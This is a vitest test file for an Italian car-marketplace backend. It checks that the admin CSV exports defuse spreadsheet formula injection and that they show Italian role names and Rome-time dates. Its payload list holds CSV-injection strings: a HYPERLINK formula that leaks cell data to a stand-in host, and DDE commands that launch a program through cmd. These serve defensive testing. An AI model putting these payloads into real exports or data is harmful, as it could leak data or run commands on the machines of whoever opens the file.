import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { createTestApp, type TestApp, type TestClient } from './support/test-app.js';

/**
 * Text a guest or a dealer typed (a lead's name, a phone, a dealer's name) must
 * not become a formula when an admin opens an export in a spreadsheet. Every export goes through the
 * one CSV writer (http/admin-list.ts sendCsv); this checks each export route with a value starting
 * with each character a spreadsheet reads as the start of a formula.
 */
const DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1;"clic")', '+39 333 1234567', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

let t: TestApp;
let admin: TestClient;

beforeAll(async () => {
  t = await createTestApp();
  admin = await t.signIn('admin@automercato.example', 'Admin#Demo2026');
});
afterAll(async () => t?.close());

async function exportRows(url: string): Promise<Record<string, string>[]> {
  const res = await admin.request({ method: 'GET', url });
  expect(res.statusCode).toBe(200);
  return parse(res.body as string, { delimiter: ';', bom: true, columns: true, relax_quotes: true });
}

/** Writes DANGEROUS[i] into `column` of the i-th of six rows, exports, and returns the six exported cells. */
async function cellsOf(table: 'users' | 'dealers' | 'listings' | 'user_messages', column: string, ids: string[], url: string, idHeader: string, header: string) {
  expect(ids).toHaveLength(DANGEROUS.length);
  for (const [i, id] of ids.entries()) {
    await sql`update ${sql.table(table)} set ${sql.ref(column)} = ${DANGEROUS[i]} where id = ${id}`.execute(t.database.db);
  }
  const rows = await exportRows(url);
  return ids.map((id) => rows.find((row) => row[idHeader] === id)?.[header]);
}

/** Each dangerous value comes out as text: the same characters after a leading apostrophe. */
const neutralised = DANGEROUS.map((value) => `'${value}`);

describe('CSV exports neutralise spreadsheet formulas', () => {
  it('users: a name starting with =, +, -, @, tab or CR', async () => {
    const ids = (await t.database.db.selectFrom('users').select('id').where('deleted_at', 'is', null).orderBy('id').limit(6).execute()).map((r) => r.id);
    expect(await cellsOf('users', 'name', ids, '/api/admin/users/export.csv?per_page=100', 'ID', 'Nome')).toEqual(neutralised);
  });

  it('users: a phone "+39 …" gets the apostrophe too', async () => {
    const user = await t.database.db.selectFrom('users').select('id').where('email', '=', 'cliente@automercato.example').executeTakeFirstOrThrow();
    await t.database.db.updateTable('users').set({ phone: '+39 333 1234567' }).where('id', '=', user.id).execute();
    const rows = await exportRows('/api/admin/users/export.csv?q=cliente@automercato.example');
    expect(rows.find((row) => row.ID === user.id)?.Telefono).toBe('\'+39 333 1234567');
  });

  it('dealers: a dealer name', async () => {
    const ids = (await t.database.db.selectFrom('dealers').select('id').orderBy('id').limit(6).execute()).map((r) => r.id);
    expect(await cellsOf('dealers', 'name', ids, '/api/admin/dealers/export.csv', 'ID', 'Nome')).toEqual(neutralised);
  });

  it('dealer admins: a member\'s surname', async () => {
    const ids = (await t.database.db.selectFrom('users').select('id').distinct()
      .where('id', 'in', (eb) => eb.selectFrom('dealer_memberships').select('user_id')).orderBy('id').limit(6).execute()).map((r) => r.id);
    expect(await cellsOf('users', 'surname', ids, '/api/admin/user-dealerships/export.csv', 'ID utente', 'Cognome')).toEqual(neutralised);
  });

  it('listings: a listing\'s version', async () => {
    const ids = (await t.database.db.selectFrom('listings').select('id').orderBy('created_at', 'desc').orderBy('id').limit(6).execute()).map((r) => r.id);
    const cells = await cellsOf('listings', 'version', ids, '/api/admin/listings/export.csv?sort_by=created_at&sort_direction=desc&per_page=100', 'ID', 'Versione');
    expect(cells).toEqual(neutralised);
  });

  it('messages: a guest lead\'s name', async () => {
    const listing = await t.database.db.selectFrom('listings').select('id').where('state', '=', 'published').where('status', '=', 'enabled').orderBy('id').executeTakeFirstOrThrow();
    for (let i = 0; i < DANGEROUS.length; i++) {
      const res = await t.client().request({ method: 'POST', url: '/api/user-messages',
        payload: { listing: listing.id, name: 'Ospite', email: `ospite${i}@example.it`, message: 'Buongiorno, l\'auto è ancora disponibile? Grazie.' } });
      expect(res.statusCode).toBe(201);
    }
    const ids = (await t.database.db.selectFrom('user_messages').select('id').orderBy('id').limit(6).execute()).map((r) => r.id);
    expect(await cellsOf('user_messages', 'name', ids, '/api/admin/user-messages/export.csv?deleted=all', 'ID', 'Nome')).toEqual(neutralised);
  });

  it('keeps numbers, dates and plain text as they were', async () => {
    const rows = await exportRows('/api/admin/listings/export.csv?per_page=5');
    const row = rows.find((r) => !r.Versione?.startsWith('\''))!;
    expect(row['Prezzo (€)']).toMatch(/^\d+$/);
    expect(row['Creato il']).toMatch(/^\d\d\/\d\d\/\d{4} \d\d:\d\d:\d\d$/);
  });
});

describe('CSV exports speak Italian', () => {
  it('users: roles by their Italian names, never "customer"', async () => {
    const rows = await exportRows('/api/admin/users/export.csv?q=concessionario@automercato.example');
    const owner = rows.find((row) => row.Email === 'concessionario@automercato.example')!;
    expect(owner.Ruoli).toBe('Cliente, Concessionario');
    const admins = await exportRows('/api/admin/users/export.csv?q=admin@automercato.example');
    expect(admins.find((row) => row.Email === 'admin@automercato.example')!.Ruoli).toMatch(/amministratore/i);
    const all = await exportRows('/api/admin/users/export.csv?per_page=100');
    expect(all.map((row) => row.Ruoli).join(' ')).not.toMatch(/customer|dealer|-admin/);
  });

  it('times are Italian time (Europe/Rome, summer and winter) as gg/mm/aaaa hh:mm:ss, not UTC', async () => {
    const db = t.database.db;
    const user = await db.selectFrom('users').select('id').where('email', '=', 'cliente@automercato.example').executeTakeFirstOrThrow();
    // 22:30 UTC on 1 July is 00:30 of 2 July in Rome (CEST, +2); 10:05 UTC on 15 January is 11:05 (CET, +1).
    await db.updateTable('users').set({ created_at: new Date('2026-07-01T22:30:00Z'), email_verified_at: new Date('2026-01-15T10:05:09Z') })
      .where('id', '=', user.id).execute();
    const [row] = (await exportRows('/api/admin/users/export.csv?q=cliente@automercato.example')).filter((r) => r.ID === user.id);
    expect(row!['Registrato il']).toBe('02/07/2026 00:30:00');
    expect(row!['Email verificata il']).toBe('15/01/2026 11:05:09');

    const message = await db.selectFrom('user_messages').select('id').orderBy('id').executeTakeFirstOrThrow();
    await db.updateTable('user_messages').set({ created_at: new Date('2026-03-29T01:30:00Z') }).where('id', '=', message.id).execute();
    const messages = await exportRows('/api/admin/user-messages/export.csv?deleted=all&per_page=100');
    // The night the clocks go forward: 01:30 UTC is 03:30 in Rome.
    expect(messages.find((r) => r.ID === message.id)?.Data).toBe('29/03/2026 03:30:00');
  });
});
